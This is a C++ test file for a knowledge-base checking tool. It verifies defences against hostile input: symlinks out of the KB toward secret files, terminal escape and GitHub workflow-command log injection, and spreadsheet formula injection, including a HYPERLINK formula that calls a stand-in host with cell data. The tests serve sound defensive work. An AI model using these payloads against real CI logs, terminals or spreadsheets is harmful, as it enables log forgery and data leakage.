// A KB in a pull request is untrusted, and kbcheck's output lands in a CI log that
// GitHub Actions scans for workflow commands. These tests run the real binaries on KBs
// built to attack that: symlinks out of the KB (a secret leak), and values and file names
// carrying terminal escapes and "\n::error::" (log injection), in every output format.
// Also: TSV cells a spreadsheet would run as formulas, and a 0-byte file that fails
// when read. docs/security.md lists what each defends against.
#include <unistd.h>

#include <catch2/catch.hpp>
#include <nlohmann/json.hpp>

#include <algorithm>
#include <set>
#include <sstream>
#include <vector>

#include "test_support.h"

using kbtest::TempDir;
namespace fs = std::filesystem;

namespace {

const std::vector<std::string> kFormats = {"text", "json", "sarif", "junit", "github"};

kbtest::RunResult kbcheck_in(const fs::path& dir, const std::string& args, const std::string& env = "") {
  return kbtest::run(env + " timeout -k 5 60 '" + kbtest::binary("KBCHECK", "kbcheck") + "' " + args +
                         " 2>&1",
                     dir);
}
kbtest::RunResult kbcheck_in(const TempDir& d, const std::string& args, const std::string& env = "") {
  return kbcheck_in(d.path(), args, env);
}

std::vector<std::string> lines_of(const std::string& text) {
  std::vector<std::string> out;
  std::istringstream in(text);
  for (std::string line; std::getline(in, line);) out.push_back(line);
  return out;
}

/// No raw ESC or CR, and no GitHub workflow command a value could have written: the
/// runner reads "::command::" at the start of a line after blanks, and the legacy
/// "##[command]" anywhere in a line. In the github format only kbcheck's own commands
/// ("::error file=...", never "::error::") start a line with "::".
void expect_no_injection(const std::string& out, const std::string& format) {
  INFO(format << " output:\n" << out.substr(0, 3000));
  CHECK(out.find('\x1b') == std::string::npos);
  CHECK(out.find('\r') == std::string::npos);
  CHECK(out.find("##[") == std::string::npos);
  for (const auto& line : lines_of(out)) {
    INFO("line: " << line);
    std::string_view start(line);
    start.remove_prefix(std::min(start.size(), start.find_first_not_of(" \t")));
    if (format == "github") {
      bool ours = start.starts_with("::error ") || start.starts_with("::warning ") || start.starts_with("::notice ");
      CHECK((ours || !start.starts_with("::")));
    } else {
      CHECK_FALSE(start.starts_with("::"));
    }
  }
}

/// A KB of one manifest and one drug; `name` is the drug's name, `kb_name` the KB's.
void write_small_kb(const TempDir& d, const std::string& dir, const std::string& kb_name,
                    const std::string& drug_name) {
  d.write(dir + "/kb.yaml", "kind: knowledge-base\nid: test-kb\nname: \"" + kb_name +
                                "\"\nversion: 0.1.0\nformat: 1\n");
  d.write(dir + "/drugs/d.yaml", "kind: drug\nid: drug-one\nname: \"" + drug_name + "\"\n");
}

}  // namespace

TEST_CASE("untrusted: a symlink out of the KB never puts a byte of its target in any format",
          "[hostile][untrusted]") {
  TempDir secrets;  // stands for /etc, a credentials directory, /proc/self
  secrets.write("secret.yaml", "kind: SECRET-5f1c-kind\nid: SECRET-5f1c-id\ntoken: SECRET-5f1c-token\n");
  secrets.write("etc/passwd.yaml", "kind: SECRET-5f1c-passwd\n");
  secrets.write("settings.xml", "<SECRET5f1cA><SECRET5f1cB></SECRET5f1cA>\n");  // libxml2 names tags
  secrets.write("pubmed/2.xml", "<SECRET5f1cA><SECRET5f1cB></SECRET5f1cA>\n");
  TempDir d;
  d.write("kb/kb.yaml", kbtest::kManifest);
  fs::create_directories(d.path() / "kb/drugs");
  fs::create_symlink(secrets.path() / "secret.yaml", d.path() / "kb/drugs/x.yaml");
  fs::create_symlink("../../" + fs::relative(secrets.path() / "secret.yaml", d.path()).string(),
                     d.path() / "kb/drugs/relative.yaml");
  fs::create_directory_symlink(secrets.path() / "etc", d.path() / "kb/etc");
  fs::create_directories(d.path() / "kb/citations/pubmed");
  fs::create_symlink(secrets.path() / "settings.xml", d.path() / "kb/citations/pubmed/1.xml");
  // Links inside the KB are followed: a file link, and a directory link into a hidden
  // directory (which the walk would not visit by itself).
  d.write("kb/real/inside.yaml", "kind: INSIDE-9d2e\n");
  fs::create_symlink("real/inside.yaml", d.path() / "kb/alias.yaml");
  d.write("kb/.shared/more.yaml", "kind: SHARED-9d2e\n");
  fs::create_directory_symlink(".shared", d.path() / "kb/more");

  for (const auto& format : kFormats) {
    auto r = kbcheck_in(d, "check --color never --format " + format + " kb");
    INFO(format << " output:\n" << r.out);
    CHECK(r.status == 1);
    CHECK(r.out.find("5f1c") == std::string::npos);  // not one byte of the secrets
    CHECK(r.out.find("kb/drugs/x.yaml") != std::string::npos);
    CHECK(r.out.find("kb/drugs/relative.yaml") != std::string::npos);
    CHECK(r.out.find("kb/etc") != std::string::npos);
    CHECK(r.out.find("kb/etc/passwd.yaml") == std::string::npos);  // the link is not walked
    CHECK(r.out.find("outside the KB root") != std::string::npos);
    CHECK(r.out.find("KB0008") != std::string::npos);
    CHECK(r.out.find(secrets.path().string()) == std::string::npos);  // nor where it points
    CHECK(r.out.find("INSIDE-9d2e") != std::string::npos);
    CHECK(r.out.find("SHARED-9d2e") != std::string::npos);
  }
  auto text = kbcheck_in(d, "check --color never kb");
  CHECK(text.out.find("kb/drugs/x.yaml: error: symlink to a file whose real path is outside the KB root") !=
        std::string::npos);
  CHECK(text.out.find("kb/etc: error: symlink to a directory whose real path is outside the KB root") !=
        std::string::npos);
  CHECK(text.out.find("kb/alias.yaml:1:7: error: 'INSIDE-9d2e' is not a known kind") != std::string::npos);
  CHECK(text.out.find("kb/more/more.yaml:1:7: error: 'SHARED-9d2e' is not a known kind") != std::string::npos);
  // Named alone, by lint or check, or bundled: still refused, still not read.
  for (const char* cmd : {"lint --color never kb/drugs/x.yaml", "check --color never kb/drugs/x.yaml",
                          "lint --color never kb/etc", "bundle kb -o out.kbb"}) {
    auto r = kbcheck_in(d, cmd);
    INFO(cmd << "\n" << r.out);
    CHECK((r.status == 1 || r.status == 2));
    CHECK(r.out.find("5f1c") == std::string::npos);
    CHECK(r.out.find("outside the KB root") != std::string::npos);
  }
  CHECK_FALSE(fs::exists(d.path() / "out.kbb"));
  CHECK(text.out.find("kb/citations/pubmed/1.xml: error: PubMed cache file cannot be read: symlink whose "
                      "real path is outside the PubMed cache directory") != std::string::npos);
  // The PubMed cache directory itself reached through a link out of the KB.
  TempDir d2;
  d2.write("kb/kb.yaml", kbtest::kManifest);
  fs::create_directory_symlink(secrets.path(), d2.path() / "kb/citations");
  for (const auto& format : kFormats) {
    auto r = kbcheck_in(d2, "check --color never --format " + format + " kb");
    INFO(format << " output:\n" << r.out);
    CHECK(r.status == 1);
    CHECK(r.out.find("5f1c") == std::string::npos);
    CHECK(r.out.find("kb/citations/pubmed") != std::string::npos);
    CHECK(r.out.find("outside the KB root") != std::string::npos);
  }
}

TEST_CASE("untrusted: values and file names with ESC and a newline before ::error:: stay visible in every format",
          "[hostile][untrusted]") {
  TempDir d;
  d.write("kb/kb.yaml", kbtest::kManifest);
  // A YAML escape gives a real ESC, BEL, CR and LF in the value.
  d.write("kb/value.yaml", "kind: \"x\\e[2J\\e]0;t\\a\\r\\n::error::v ##[error]w\"\n");
  const std::string evil_name = "kb/n\x1b[31m\n::error::f.yaml";
  d.write(evil_name, "kind: 5\n");
  // A file name that starts a line of text output when the KB is checked as ".", and a
  // source line (shown under a finding) that is a workflow command.
  d.write("kb/::error::g.yaml", "kind: drug\nid: g\nname: G\n::error::snippet: 1\n");
  for (const auto& format : kFormats) {
    for (const fs::path& dir : {d.path(), d.path() / "kb"}) {
      auto r = kbcheck_in(dir, "check --color never --format " + format + (dir == d.path() ? " kb" : " ."));
      CHECK(r.status == 1);
      expect_no_injection(r.out, format);
      if (format == "text" || format == "junit" || format == "github") {
        INFO(r.out);
        CHECK(r.out.find("x\\x1b[2J\\x1b]0;t\\x07\\r\\n::error::v \\x23#[error]w") != std::string::npos);
        if (format != "github") {  // there file names are properties: ':' is %3A
          CHECK(r.out.find("n\\x1b[31m\\n::error::f.yaml") != std::string::npos);
          CHECK(r.out.find(":error::g.yaml:4:1: error: unknown field") != std::string::npos);
        }
      }
    }
  }
  auto snippet = kbcheck_in(d, "check --color never kb");
  CHECK(snippet.out.find("\n\\x3a:error::snippet: 1\n^\n") != std::string::npos);
  // The JSON formats carry the exact values, escaped as JSON.
  auto json = nlohmann::json::parse(kbcheck_in(d, "check --format json kb").out);
  std::set<std::string> files;
  bool exact_value = false;
  for (const auto& f : json["diagnostics"]) {
    files.insert(f["file"].get<std::string>());
    if (f["message"].get<std::string>().find("x\x1b[2J\x1b]0;t\a\r\n::error::v ##[error]w") != std::string::npos)
      exact_value = true;
  }
  CHECK(files.count(evil_name) == 1);
  CHECK(exact_value);
  auto sarif = nlohmann::json::parse(kbcheck_in(d, "check --format sarif kb").out);
  CHECK(sarif["runs"][0]["results"].size() == json["diagnostics"].size());
}

TEST_CASE("untrusted: inspect and diff show a KB's strings with control characters visible",
          "[hostile][untrusted]") {
  TempDir d;
  write_small_kb(d, "old", "Old KB", "Drug One");
  write_small_kb(d, "new", "Evil\\e[2J\\n::error::kbname", "B\\e]0;t\\a\\n::error::drug ##[error]g");
  for (const char* side : {"old", "new"}) {
    auto b = kbcheck_in(d, std::string("bundle ") + side + " -o " + side + ".kbb");
    INFO(b.out);
    REQUIRE(b.status == 0);
    expect_no_injection(b.out, "text");
  }
  auto inspect = kbcheck_in(d, "inspect new.kbb");
  REQUIRE(inspect.status == 0);
  expect_no_injection(inspect.out, "text");
  CHECK(inspect.out.find("(Evil\\x1b[2J\\n::error::kbname)") != std::string::npos);
  auto inspect_json = nlohmann::json::parse(kbcheck_in(d, "inspect --format json new.kbb").out);
  CHECK(inspect_json["kb"]["name"] == "Evil\x1b[2J\n::error::kbname");
  for (const char* format : {"text", "markdown"}) {
    for (const char* pair : {"old.kbb new.kbb", "old new"}) {
      auto diff = kbcheck_in(d, std::string("diff --format ") + format + " " + pair);
      INFO(format << " " << pair << "\n" << diff.out);
      CHECK(diff.status == 0);
      CHECK(diff.out.find("drug-one") != std::string::npos);
      expect_no_injection(diff.out, "text");
    }
  }
  for (const char* format : {"dot", "graphml"}) {
    auto graph = kbcheck_in(d, std::string("graph new --format ") + format);
    INFO(graph.out);
    CHECK(graph.status == 0);
    CHECK(graph.out.find("drug-one") != std::string::npos);
    expect_no_injection(graph.out, "text");
  }
  auto diff_text = kbcheck_in(d, "diff old.kbb new.kbb");
  CHECK(diff_text.out.find("B\\x1b]0;t\\x07\\n::error::drug") != std::string::npos);
}

TEST_CASE("untrusted: a 0-byte file that cannot be read is reported, not taken as empty",
          "[hostile][untrusted]") {
  const std::string preload = "LD_PRELOAD='" + std::string(KB_FAULT_READ_LIB) +
                              "' ASAN_OPTIONS=\"${ASAN_OPTIONS:+$ASAN_OPTIONS:}verify_asan_link_order=0\" KB_FAULT_READ=/eio.yaml";
  TempDir d;
  d.write("kb/kb.yaml", kbtest::kManifest);
  d.write("kb/drugs/eio.yaml", "");
  d.write("kb/drugs/empty.yaml", "");
  auto r = kbcheck_in(d, "check --color never kb", preload);
  INFO(r.out);
  CHECK(r.status == 1);
  CHECK(r.out.find("kb/drugs/eio.yaml: error: cannot load file: read failed: Input/output error [KB0008]") !=
        std::string::npos);
  CHECK(r.out.find("empty.yaml") == std::string::npos);  // a readable empty file is fine
  // The same library on a file with content: the fault injection itself works.
  d.write("kb/drugs/eio.yaml", "kind: drug\nid: d\nname: D\n");
  auto full = kbcheck_in(d, "check --color never kb", preload);
  CHECK(full.out.find("kb/drugs/eio.yaml: error: cannot load file: read failed") != std::string::npos);
  fs::remove(d.path() / "kb/drugs/eio.yaml");
  CHECK(kbcheck_in(d, "check --color never kb", preload).status == 0);
}

#ifdef KBINTERP_PATH
TEST_CASE("untrusted: kbinterp shows VCF sample names and values with control characters visible",
          "[hostile][untrusted]") {
  TempDir d;
  const fs::path fixtures = fs::path(KB_SOURCE_DIR) / "tests/interp/fixtures";
  auto b = kbcheck_in(d, "bundle '" + (fixtures / "kb").string() + "' -o t.kbb");
  REQUIRE(b.status == 0);
  std::string vcf = kbtest::slurp(fixtures / "vcf/two-samples.vcf");
  const std::string evil = "NA\x1b]0;t\x07\r::error::s";
  vcf.replace(vcf.find("NA00001"), 7, evil);
  // A homozygous deletion: the genotype cell of the TSV starts with "-".
  const std::string del = "rs72552763\tAGAT\tA\t50\tPASS\t.\tGT\t0/1";
  REQUIRE(vcf.find(del) != std::string::npos);
  vcf.replace(vcf.find(del) + del.size() - 3, 3, "1/1");
  d.write("s.vcf", vcf);
  const std::string interp = "timeout 60 '" + kbtest::binary("KBINTERP", KBINTERP_PATH) + "' --bundle t.kbb --vcf s.vcf ";
  for (const char* format : {"text", "html", "tsv", "json"}) {
    auto r = kbtest::run(interp + "--sample \"$(printf 'NA\\033]0;t\\007\\r::error::s')\" --format " + format + " 2>&1",
                         d.path());
    INFO(format << "\n" << r.out);
    CHECK(r.status == 0);
    expect_no_injection(r.out, format);
    if (std::string(format) == "text") CHECK(r.out.find("Sample: NA\\x1b]0;t\\x07\\r::error::s\n") != std::string::npos);
    if (std::string(format) == "html") CHECK(r.out.find("<b>NA\\x1b]0;t\\x07\\r::error::s</b>") != std::string::npos);
    if (std::string(format) == "json") CHECK(nlohmann::json::parse(r.out)["sample"] == evil);
    if (std::string(format) == "tsv") {
      // The deletion allele "-" starts a genotype cell: OWASP's ' keeps it from being a formula.
      CHECK(r.out.find("\t'-/-\tEV0013\t") != std::string::npos);
      for (const auto& line : lines_of(r.out)) CHECK(std::count(line.begin(), line.end(), '\t') == 11);
    }
  }
  // An error message that lists the VCF's samples shows them visibly too.
  auto wrong = kbtest::run(interp + "--sample nobody 2>&1", d.path());
  CHECK(wrong.status == 2);
  expect_no_injection(wrong.out, "text");
  CHECK(wrong.out.find("NA\\x1b]0;t\\x07\\r::error::s") != std::string::npos);
}
#endif

#ifdef KBIMPORT_PATH
TEST_CASE("untrusted: kbimport's report and messages neutralise formulas and control characters",
          "[hostile][untrusted]") {
  TempDir d;
  std::string tsv =
      "Annotation ID\tVariant\tGene\tChemical\tLiterature Id\tPhenotype Category\tSignificance\tNotes\t"
      "Sentence\tStudyParameters\tAlleles\tChromosome\n";
  tsv += "=HYPERLINK(\"http://x/?\"&A1)\trs1\tG (PA1)\tw (PA2)\t123\tdosage\tyes\t\tnot a sentence\t1\tA\tchr1\n";
  tsv += "@SUM(1+1)\x1b[2J\rX\trs2\tG (PA1)\tw (PA2)\t123\tdosage\tyes\t\tnot a sentence\t1\tA\tchr1\n";
  d.write("in.tsv", tsv);
  auto r = kbtest::run("timeout 60 '" + kbtest::binary("KBIMPORT", KBIMPORT_PATH) + "' pharmgkb in.tsv -o out 2>&1", d.path());
  INFO(r.out);
  REQUIRE(r.status == 0);
  expect_no_injection(r.out, "text");
  CHECK(r.out.find("(annotation @SUM(1+1)\\x1b[2J\\rX)") != std::string::npos);
  std::string report = kbtest::slurp(d.path() / "out/import-report.tsv");
  INFO(report);
  CHECK(report.find("\n2\t'=HYPERLINK(\"http://x/?\"&A1)\tskipped\t") != std::string::npos);
  CHECK(report.find("\n3\t'@SUM(1+1)\\x1b[2J\\rX\tskipped\t") != std::string::npos);
  for (const auto& line : lines_of(report)) CHECK(std::count(line.begin(), line.end(), '\t') == 5);
}
#endif
